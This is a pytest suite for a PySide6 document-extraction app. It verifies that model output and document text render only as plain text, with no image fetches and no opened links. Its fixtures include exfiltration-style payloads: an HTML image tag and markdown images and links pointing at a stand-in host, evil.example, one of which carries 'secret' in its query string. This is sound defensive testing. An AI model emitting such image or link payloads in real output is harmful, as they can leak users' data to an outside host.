"""N5: model output and document text are shown as plain text everywhere in the window: no rich
text, no images fetched, no links. Hostile values (HTML <img>, markdown images and links, plain
URLs) go through the real widgets offscreen; every one must come back verbatim as plain text.
(Run offscreen and with pytest-socket on: any fetch attempt would also fail the test.)"""
from __future__ import annotations

import ast
import os
from pathlib import Path

import pytest

os.environ.setdefault("QT_QPA_PLATFORM", "offscreen")

from PySide6 import QtGui  # noqa: E402
from PySide6.QtCore import Qt  # noqa: E402
from PySide6.QtWidgets import QLabel, QPlainTextEdit  # noqa: E402

from desktop_app.core.entities import DocumentRecord, Extraction, Field, ParsedDocument  # noqa: E402
from desktop_app.main import schemas as load_schemas  # noqa: E402

GUI = Path(__file__).resolve().parents[2] / "desktop_app" / "gui"
IMG = '<img src="http://evil.example/p.png?d=secret">'
MD_IMG = "![x](http://evil.example/x.png)"
LINK = "[click me](http://evil.example/steal)"
HTML = f"<b>bold</b> {IMG} <a href='http://evil.example/'>here</a>"
HOSTILE = [IMG, MD_IMG, LINK, HTML, "http://evil.example/?q=1", "<qt><h1>big</h1></qt>"]


def _record(values: list[str], summary: str, name: str = "doc.pdf") -> DocumentRecord:
    fields = [Field(name="company", raw=values[0], value=values[0], grounded=True, confidence=0.9, span=(0, 5)),
              Field(name="address", raw=values[1], value=values[1], grounded=False, confidence=0.2,
                    note=values[2]),
              Field(name="date", raw="14/03/2024", value="2024-03-14", type="date", grounded=True, confidence=0.9),
              Field(name="total", raw=values[3], value=None, type="money", confidence=0.1)]
    rows = {"line_items": [{"description": Field(name="description", raw=values[4], value=values[4]),
                            "amount": Field(name="amount", raw="1.00", value="1.00", type="money")}]}
    ex = Extraction(kind="receipt", kind_confidence=0.9, fields=fields, lists=rows, summary=summary,
                    checks=[values[5]])
    text = "\n".join(values)
    return DocumentRecord(id=1, name=name, sha256="0" * 64, media_type="text/plain", size=len(text),
                          added_at="2024-03-14T10:00:00Z", status="done", kind="receipt", extraction=ex,
                          parsed=ParsedDocument.from_text(text))


def _no_rich_content(doc: QtGui.QTextDocument) -> list[str]:
    """Images or anchors anywhere in a QTextDocument (what rich text would have produced)."""
    found = []
    block = doc.begin()
    while block.isValid():
        it = block.begin()
        while not it.atEnd():
            frag = it.fragment()
            fmt = frag.charFormat()
            if fmt.isImageFormat() or fmt.isAnchor() or fmt.anchorHref():
                found.append(frag.text())
            it += 1
        block = block.next()
    return found


@pytest.fixture(scope="module")
def schemas():
    return load_schemas()


def test_fields_panel_shows_model_output_as_plain_text(qtbot, schemas) -> None:
    from desktop_app.gui.fields_panel import FieldsPanel

    panel = FieldsPanel(schemas)
    qtbot.addWidget(panel)
    summary = f"Receipt from {IMG}; total {MD_IMG}. {LINK}"
    record = _record(HOSTILE, summary, name=f"{IMG}.pdf")
    panel.show_record(record)
    panel.show()
    qtbot.waitExposed(panel)
    # Summary: a read-only QPlainTextEdit; the text comes back verbatim, no image or anchor.
    assert isinstance(panel.summary, QPlainTextEdit)
    assert panel.summary.toPlainText() == summary
    assert _no_rich_content(panel.summary.document()) == []
    # Title (the file name) and checks: QLabels pinned to PlainText, no links opened.
    for label in (panel.title, panel.checks):
        assert label.textFormat() == Qt.TextFormat.PlainText
        assert not label.openExternalLinks()
    assert panel.title.text() == f"{IMG}.pdf"
    assert HOSTILE[5] in panel.checks.text()
    # The fields table: DisplayRole strings, drawn by QStyledItemDelegate as plain text.
    model = panel.model
    shown = [model.data(model.index(r, 1), Qt.ItemDataRole.DisplayRole) for r in range(model.rowCount())]
    assert HOSTILE[0] in shown and HOSTILE[1] in shown
    # The list tab: plain cells too.
    view = panel.lists.widget(0)
    cells = [view.model().data(view.model().index(0, c)) for c in range(view.model().columnCount())]
    assert HOSTILE[4] in cells


def test_every_label_showing_document_or_model_text_is_plain(qtbot, schemas) -> None:
    """Sweep the whole window: every QLabel whose text we set from a record is PlainText, and no
    QLabel anywhere opens external links."""
    from desktop_app.gui.main_window import MainWindow

    window = MainWindow(schemas, QtGui.QIcon())
    qtbot.addWidget(window)
    record = _record(HOSTILE, HTML, name=f"{IMG}.pdf")
    window.fields.show_record(record)
    window.document_view.set_document(record.parsed)
    window.show()
    qtbot.waitExposed(window)
    for label in window.findChildren(QLabel):
        assert not label.openExternalLinks(), label.objectName()
        if any(h in label.text() for h in HOSTILE) or IMG in label.text():
            assert label.textFormat() == Qt.TextFormat.PlainText, label.text()
    text = window.document_view.text
    assert isinstance(text, QPlainTextEdit) and text.toPlainText() == record.parsed.text
    assert _no_rich_content(text.document()) == []


def test_field_tooltips_are_not_rich_text(schemas) -> None:
    """Tooltips are rich text when Qt.mightBeRichText says so. Field notes are written by the
    code, never by the model; check that a hostile note would still not render as HTML."""
    from desktop_app.gui.models import FieldTableModel

    model = FieldTableModel()
    record = _record(HOSTILE, "")
    model.set_fields(record.extraction.fields, {}, {})
    for r in range(model.rowCount()):
        tip = model.data(model.index(r, 1), Qt.ItemDataRole.ToolTipRole)
        if tip:
            assert not QtGui.Qt.mightBeRichText(tip), tip


def test_document_list_tooltip_with_a_hostile_file_name_is_plain(schemas) -> None:
    from desktop_app.gui.models import DocRow, DocumentListModel

    model = DocumentListModel(schemas)
    name = f"{IMG}.pdf"
    model.rows = [DocRow(name=name, state="failed", message=f"'{name}' is damaged or not a PDF.")]
    tip = model.data(model.index(0, 3), Qt.ItemDataRole.ToolTipRole)
    # Found by this test (issue 9); fixed in 1cb93cc: tooltips that look like HTML are escaped.
    assert tip is not None
    assert not QtGui.Qt.mightBeRichText(tip) or IMG not in tip, tip


def test_no_rich_text_sinks_or_url_openers_on_content() -> None:
    """Static: no QTextBrowser/QWebEngine/setHtml/setOpenExternalLinks(True) in the GUI, and the
    only QDesktopServices.openUrl call opens a local folder (the export destination)."""
    offenders = []
    for path in GUI.glob("*.py"):
        source = path.read_text(encoding="utf-8")
        for bad in ("QTextBrowser", "QWebEngine", "setHtml(", "insertHtml(", "setOpenExternalLinks(True)",
                    "TextFormat.RichText", "MarkdownText", "setMarkdown("):
            if bad in source:
                offenders.append(f"{path.name}: {bad}")
        for node in ast.walk(ast.parse(source)):
            if isinstance(node, ast.Call) and getattr(node.func, "attr", "") == "openUrl":
                arg = ast.unparse(node.args[0]) if node.args else ""
                if not arg.startswith("QUrl.fromLocalFile("):
                    offenders.append(f"{path.name}: openUrl({arg})")
    assert offenders == []
